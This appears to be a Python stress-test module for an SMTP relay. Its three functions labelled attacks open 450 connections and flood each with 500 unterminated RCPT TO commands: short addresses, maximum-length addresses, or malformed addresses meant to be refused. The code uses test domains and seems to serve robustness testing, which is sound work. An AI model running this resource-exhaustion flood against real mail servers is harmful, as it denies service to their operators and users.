"""225,000 recipients in 450 transactions that do not end; addresses of the greatest length; and as many that are refused."""
import time

from frame.clients import close_all, connect, read_reply, send_all

LONG = "r" * 60
DOMAIN = ".".join(["d" * 60] * 3) + ".ordinary.test"


def fill(relay, seconds, commands):
    connections = []
    for number in range(450):
        try:
            connection = connect(relay, number, receive_buffer=1 << 20)
        except OSError:
            continue
        if read_reply(connection) == "220":
            connections.append(connection)
    send_all(connections, b"EHLO hostile.test\r\nMAIL FROM:<h@hostile.test>\r\n" + commands, time.monotonic() + seconds)
    time.sleep(2)
    close_all(connections)


def short(relay, seconds):
    fill(relay, seconds, b"".join(b"RCPT TO:<recipient%d@ordinary.test>\r\n" % i for i in range(500)))


def long(relay, seconds):
    fill(relay, seconds, b"".join(f"RCPT TO:<{LONG}{i % 1000:04}@{DOMAIN}>\r\n".encode() for i in range(500)))


def refused(relay, seconds):
    fill(relay, seconds, b"".join(f"RCPT TO:<\"{LONG} {i}\"@{DOMAIN}>\r\n".encode() for i in range(500)))


ATTACKS = [("many-recipients", short), ("many-long-recipients", long), ("many-refused-recipients", refused)]
SHORT = {"many-recipients"}
